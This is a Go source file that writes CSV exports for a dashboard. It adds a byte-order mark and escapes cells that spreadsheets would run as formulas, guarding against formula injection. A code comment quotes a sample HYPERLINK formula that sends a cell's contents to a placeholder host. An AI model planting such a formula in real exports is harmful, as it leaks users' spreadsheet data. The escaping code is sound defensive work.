package web

import (
	"encoding/csv"
	"io"
	"strings"
)

// sheetCSV writes a CSV for a spreadsheet: UTF-8 with a byte-order mark, so that Excel
// reads the Chinese right, and every cell kept as text. Every CSV the dashboard offers is
// written with it, so an export added later is safe too (a test keeps encoding/csv out of
// the package's other files).
type sheetCSV struct {
	w *csv.Writer
}

// newCSV starts a CSV on w with the byte-order mark.
func newCSV(w io.Writer) *sheetCSV {
	_, _ = io.WriteString(w, "\ufeff")
	return &sheetCSV{w: csv.NewWriter(w)}
}

// Write writes one row, each cell through asText.
func (c *sheetCSV) Write(row []string) error {
	cells := make([]string, len(row))
	for i, cell := range row {
		cells[i] = asText(cell)
	}
	return c.w.Write(cells)
}

// Flush writes what is buffered and reports the first error of the whole CSV.
func (c *sheetCSV) Flush() error {
	c.w.Flush()
	return c.w.Error()
}

// formulaStarts are the first characters that make Excel, LibreOffice or Google Sheets
// take a cell for a formula (tab and carriage return because some strip them first).
const formulaStarts = "=+-@\t\r"

// asText keeps a cell a spreadsheet would run as a formula as the text it is: a
// farmer's question `=HYPERLINK("http://x/?"&A1,"点我")` must not become a link that
// carries the sheet away. A leading single quote is how a spreadsheet is told "text".
func asText(cell string) string {
	if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
		return "'" + cell
	}
	return cell
}
